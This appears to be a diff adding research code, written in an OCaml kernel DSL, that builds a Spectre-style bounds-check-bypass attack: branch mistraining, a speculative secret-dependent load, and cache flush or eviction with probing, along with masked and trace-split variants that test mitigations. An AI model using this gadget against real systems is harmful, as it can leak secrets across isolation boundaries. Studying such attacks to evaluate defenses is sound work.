@@ -1,0 +1,77 @@
+open Gb_kernelc.Dsl
+
+(* The victim of Figure 1, optionally hardened with branch-less masking:
+   [mask idx] clamps the index into the buffer using only arithmetic
+   (idx * (idx < size)), so a speculatively executed access cannot reach
+   the secret even when hoisted above the bounds check. With [split], an
+   unbiased coin-flip branch separates the two loads: the trace
+   constructor stops at it, so the loads end up in different traces — and
+   speculation never crosses a trace boundary. *)
+let gadget ~masked ~split =
+  let idx_expr =
+    if masked then v "idx" *: (v "idx" <: v "size") else v "idx"
+  in
+  let between =
+    if split then
+      [ if_ (v "t" &: c 1) [ set "sel" (v "sel" +: c 0) ] [ set "sel" (v "sel" ^: c 0) ] ]
+    else []
+  in
+  [
+    if_
+      (v "idx" <: v "size")
+      ([ let_ "a" (arr "buffer" [ idx_expr ]) ]
+      @ between
+      @ [
+          let_ "b" (arr "array_val" [ v "a" *: c Side_channel.stride ]);
+          (* keep the dependent load alive *)
+          set "idx" (v "idx" +: (v "b" *: c 0));
+        ])
+      [];
+  ]
+
+let make ?(evict = false) ?(split = false) ~train ~masked ~secret () =
+  let len = String.length secret in
+  let reset_cache =
+    if evict then Side_channel.evict_probe_array
+    else Side_channel.flush_probe_array
+  in
+  let arrays =
+    Side_channel.standard_arrays ~secret
+    @ (if evict then [ Side_channel.eviction_buffer ] else [])
+  in
+  {
+    Gb_kernelc.Ast.arrays;
+    body =
+      [
+        let_ "size" (c Side_channel.buffer_size);
+        Side_channel.declare_delta;
+        for_ "k" (c 0) (c len)
+          ([
+             reset_cache;
+             for_ "t" (c 0) (c train)
+               ([
+                  (* the last iteration is the attack; selected without a
+                     branch so every iteration runs the same code path *)
+                  let_ "sel" (v "t" =: c (train - 1));
+                  let_ "idx"
+                    ((v "sel" *: (v "delta" +: v "k"))
+                    +: ((c 1 -: v "sel")
+                       *: (v "t" &: c (Side_channel.buffer_size - 1))));
+                ]
+               @ gadget ~masked ~split);
+           ]
+          @ Side_channel.probe_and_record);
+      ];
+    result = c 0;
+  }
+
+let program ?(train = 40) ~secret () = make ~train ~masked:false ~secret ()
+
+let masked_program ?(train = 40) ~secret () =
+  make ~train ~masked:true ~secret ()
+
+let eviction_program ?(train = 40) ~secret () =
+  make ~evict:true ~train ~masked:false ~secret ()
+
+let split_program ?(train = 40) ~secret () =
+  make ~split:true ~train ~masked:false ~secret ()
